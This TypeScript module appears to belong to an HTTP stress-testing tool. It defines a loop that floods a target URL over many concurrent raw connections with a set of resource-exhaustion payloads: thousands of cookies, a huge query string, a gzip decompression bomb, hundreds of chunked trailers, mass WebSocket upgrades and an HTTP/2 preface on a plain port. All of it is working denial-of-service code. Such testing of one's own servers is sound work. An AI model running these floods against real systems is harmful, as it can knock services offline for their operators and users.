import { gzipSync } from 'node:zlib'
import type { Attack, Target } from './attacks.ts'
import { openRaw } from './raw-connection.ts'

const atOnce = 20
/** Timeout of a response in milliseconds. */
const timeoutMs = 10_000

/**
 * Sends the same bytes on one connection after another.
 * @param connections number of connections open at the same time
 */
export async function repeat(
  { url, from, signal, note }: Target,
  bytes: Buffer,
  connections = atOnce,
): Promise<void> {
  async function send() {
    while (!signal.aborted) {
      const { socket, statuses, closed } = openRaw(url, from)
      socket.write(bytes)
      const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()))
      await Promise.race([answered, closed, timeOut(timeoutMs)])
      note(statuses[0] ?? 'no answer')
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: connections }, send))
}

function timeOut(milliseconds: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, milliseconds).unref())
}

export function request(
  target: Target,
  line: string,
  headers: readonly string[],
  body?: Buffer,
): Buffer {
  const length = body ? [`Content-Length: ${body.length}`] : []
  const head = [line, `Host: ${new URL(target.url).host}`, ...headers, ...length].join('\r\n')
  return Buffer.concat([Buffer.from(`${head}\r\n\r\n`), body ?? Buffer.alloc(0)])
}

export const urlencoded = 'Content-Type: application/x-www-form-urlencoded'

export const badInput: readonly Attack[] = [
  {
    name: '10,000 cookies',
    run: (target) => {
      const cookies = Array.from({ length: 10_000 }, (_, i) => `c${i}=1`).join('; ')
      return repeat(target, request(target, 'GET / HTTP/1.1', [`Cookie: ${cookies}`]))
    },
  },
  {
    name: '100,000 query parameters',
    run: (target) => {
      const query = Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join('&')
      return repeat(target, request(target, `GET /catalogue?${query} HTTP/1.1`, []))
    },
  },
  {
    name: 'a query of many short parameters that is let through',
    run: (target) => {
      const query = Array.from({ length: 1300 }, () => 'q=').join('&')
      return repeat(target, request(target, `GET /catalogue?${query} HTTP/1.1`, []))
    },
  },
  {
    name: 'a body that unpacks to 100 MB',
    run: (target) => {
      const bomb = gzipSync(Buffer.alloc(100_000_000))
      const headers = [urlencoded, 'Content-Encoding: gzip']
      return repeat(target, request(target, 'POST /contact HTTP/1.1', headers, bomb))
    },
  },
  {
    name: 'trailers after a body',
    run: (target) => {
      const head = request(target, 'POST /contact HTTP/1.1', [
        urlencoded,
        'Transfer-Encoding: chunked',
      ])
      const trailers = Array.from({ length: 500 }, (_, i) => `X-T${i}: ${'x'.repeat(10)}`)
      const body = `5\r\na=bcd\r\n0\r\n${trailers.join('\r\n')}\r\n\r\n`
      return repeat(target, Buffer.concat([head, Buffer.from(body)]))
    },
  },
  {
    name: '1,000 WebSocket upgrades',
    run: (target) =>
      repeat(
        target,
        request(target, 'GET / HTTP/1.1', [
          'Connection: Upgrade',
          'Upgrade: websocket',
          'Sec-WebSocket-Version: 13',
          'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
        ]),
        1000,
      ),
  },
  {
    name: 'HTTP/2 on the plain port',
    run: (target) => repeat(target, Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')),
  },
]
